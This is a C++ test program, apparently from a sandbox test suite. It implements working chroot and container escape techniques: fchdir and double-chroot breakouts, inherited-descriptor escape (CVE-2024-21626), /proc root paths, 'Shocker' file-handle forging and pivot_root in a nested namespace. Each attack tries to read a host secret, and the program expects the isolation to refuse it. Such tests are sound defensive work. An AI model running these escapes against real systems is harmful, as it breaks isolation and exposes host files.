// SPDX-License-Identifier: GPL-2.0-or-later
// Out of the root directory. What counts is the host's file secret=PATH: an attack works when it
// can be opened.
#include "attack.h"

namespace attack {
namespace {

constexpr const char* kUp = "../../../../../../../../../../../../../../../..";

int read_secret_at(int dir, const std::string& prefix) {
  return result(openat(dir, (prefix + argument("secret")).c_str(), O_RDONLY));
}
int read_above() {
  return read_secret_at(AT_FDCWD, kUp);
}

int dot_dot() {
  return read_above();
}

int fchdir_dance() {
  int const root = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot(scratch("a").c_str()) != 0 || fchdir(root) != 0) return errno;
  return read_above();
}

int double_chroot() {
  if (chdir("/") != 0 || chroot(scratch("a").c_str()) != 0) return errno;
  if (int const err = read_above(); err != ENOENT) return err;
  if (chroot(kUp) != 0) return errno;
  return read_secret_at(AT_FDCWD, "");
}

int descriptor_above() {
  int const root = open("/", O_PATH | O_DIRECTORY);
  if (chroot(scratch("a").c_str()) != 0 || chdir("/") != 0) return errno;
  return read_secret_at(root, kUp);
}

// A directory of a chroot is moved out of it while a process stands there.
int moved_out() {
  std::string const jail = scratch("jail");
  std::string const outside = scratch("outside") + "/in";
  mkdir((jail + "/in").c_str(), 0755);
  int ready[2];
  int moved[2];
  if (pipe(ready) != 0 || pipe(moved) != 0) return errno;
  pid_t const pid = fork();
  if (pid == 0) {
    char byte = 0;
    if (chroot(jail.c_str()) != 0 || chdir("/in") != 0) _exit(errno);
    if (write(ready[1], "r", 1) != 1 || read(moved[0], &byte, 1) != 1) _exit(EPIPE);
    _exit(read_above());
  }
  char byte = 0;
  if (read(ready[0], &byte, 1) != 1 || rename((jail + "/in").c_str(), outside.c_str()) != 0 ||
      write(moved[1], "m", 1) != 1)
    return errno;
  int status = 0;
  waitpid(pid, &status, 0);
  return WEXITSTATUS(status);
}

// Through descriptors that whoever started us left open, standard ones included (CVE-2024-21626).
int inherited_descriptor() {
  for (int fd = 0; fd < 1024; ++fd) {
    if (read_secret_at(fd, kUp) == 0) return 0;
  }
  return ENOENT;
}

int inherited_cwd() {
  return read_secret_at(AT_FDCWD, std::string{"/proc/self/cwd/"} + kUp);
}

int root_of_init() {
  return read_secret_at(AT_FDCWD, "/proc/1/root");
}

int root_of_any() {
  for (int pid = 2; pid < 400; ++pid) {
    if (read_secret_at(AT_FDCWD, "/proc/" + std::to_string(pid) + "/root") == 0) return 0;
  }
  return ENOENT;
}

// "Shocker": a file handle can be made up; only the mount has to be on the same file system.
int file_handle_of_secret() {
  struct {
    file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
  } handle{};
  std::string const text = argument("handle");  // TYPE:HEX
  auto const colon = text.find(':');
  handle.head.handle_type = atoi(text.c_str());
  handle.head.handle_bytes = static_cast<unsigned>((text.size() - colon - 1) / 2);
  for (unsigned i = 0; i < handle.head.handle_bytes; ++i)
    handle.bytes[i] = static_cast<unsigned char>(
        strtoul(text.substr(colon + 1 + std::size_t{2} * i, 2).c_str(), nullptr, 16));
  int const mount = open("/", O_RDONLY | O_DIRECTORY);
  return result(open_by_handle_at(mount, &handle.head, O_RDONLY));
}

int pivot_in_nested_namespace() {
  if (int const err = nest(CLONE_NEWNS); err != 0) return err;
  std::string const at = scratch("pivot");
  if (mount("/", at.c_str(), nullptr, MS_BIND | MS_REC, nullptr) != 0 || chdir(at.c_str()) != 0)
    return errno;
  if (syscall(SYS_pivot_root, ".", ".") != 0) return errno;
  umount2(".", MNT_DETACH);
  return read_above();
}

// A device node that was put into the tree before the start: a second name of the disk.
int prepared_node() {
  return result(open("/root/disk", O_RDONLY | O_NONBLOCK));
}

constexpr std::array kRows{
    Row{"fchdir out of a chroot", fchdir_dance, Control::Chroot, {ENOENT}},
    Row{"two chroots", double_chroot, Control::Chroot, {ENOENT}},
    Row{"dot dot from a descriptor", descriptor_above, Control::Chroot, {ENOENT}},
    Row{"directory moved out of a chroot", moved_out, Control::Chroot, {ENOENT}},
    Row{"inherited descriptor (CVE-2024-21626)", inherited_descriptor, Control::Chroot, {ENOENT}},
    Row{"/proc/1/root", root_of_init, Control::Chroot, {ENOENT}, {EACCES}},
    Row{"/proc/PID/root of any", root_of_any, Control::Chroot, {ENOENT}},
    Row{"made-up file handle", file_handle_of_secret, Control::Chroot, {EPERM}},
    Row{"prepared device node", prepared_node, Control::Chroot, {EACCES}, {ENXIO}},
    Row{"dot dot", dot_dot, Control::Host, {ENOENT}},
    Row{"inherited working directory", inherited_cwd, Control::Host, {ENOENT}},
    Row{"pivot_root in a namespace inside",
        pivot_in_nested_namespace,
        Control::Userns,
        {ENOENT, EPERM, EINVAL}},
};

// Prints TYPE:HEX of a file's handle.
int print_handle(const char* path) {
  struct {
    file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
  } handle{};
  handle.head.handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) != 0) return 1;
  printf("%d:", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; ++i)
    printf("%02x", handle.bytes[i]);
  putchar('\n');
  return 0;
}

}  // namespace
}  // namespace attack

int main(int argc, char** argv) {
  if (argc == 3 && strcmp(argv[1], "handle") == 0) return attack::print_handle(argv[2]);
  return attack::main_of(attack::kRows, argc, argv);
}
